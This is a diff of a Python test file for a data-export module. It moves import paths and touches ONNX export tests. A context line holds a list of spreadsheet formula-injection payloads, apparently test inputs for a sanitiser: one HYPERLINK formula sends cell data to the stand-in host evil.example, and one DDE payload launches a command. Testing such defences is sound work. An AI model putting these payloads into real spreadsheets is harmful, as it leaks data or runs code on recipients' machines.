@@ -13,8 +13,8 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from engine.errors import UserError
-from engine.exports import FORMATS, export_onnx, export_table, file_name, neutralise, zip_checkpoint
+from engine.analysis.exports import FORMATS, export_onnx, export_table, file_name, neutralise, zip_checkpoint
+from engine.core.errors import UserError
 
 MALICIOUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2+3"]
 
@@ -160,15 +160,15 @@ def test_a_missing_or_unsaved_checkpoint_is_refused_with_a_message(tmp_path):
 
 def test_onnx_without_the_export_module_is_a_message(tmp_path, monkeypatch):
     (tmp_path / "meta.json").write_text("{}")
-    monkeypatch.setitem(sys.modules, "engine.onnx_export", None)  # the import fails
+    monkeypatch.setitem(sys.modules, "engine.deploy.onnx", None)  # the import fails
     with pytest.raises(UserError, match="ONNX export is not available"):
         export_onnx(str(tmp_path))
 
 
 def test_onnx_goes_through_the_export_module(tmp_path, monkeypatch):
     (tmp_path / "meta.json").write_text("{}")
-    fake = types.ModuleType("engine.onnx_export")
+    fake = types.ModuleType("engine.deploy.onnx")
     fake.export_checkpoint = lambda directory, out=None: types.SimpleNamespace(data=b"onnx", max_abs_diff=1e-6)
-    monkeypatch.setitem(sys.modules, "engine.onnx_export", fake)
+    monkeypatch.setitem(sys.modules, "engine.deploy.onnx", fake)
     result = export_onnx(str(tmp_path))
     assert (result.data, result.max_abs_diff, result.file_name) == (b"onnx", 1e-6, f"{tmp_path.name}.onnx")
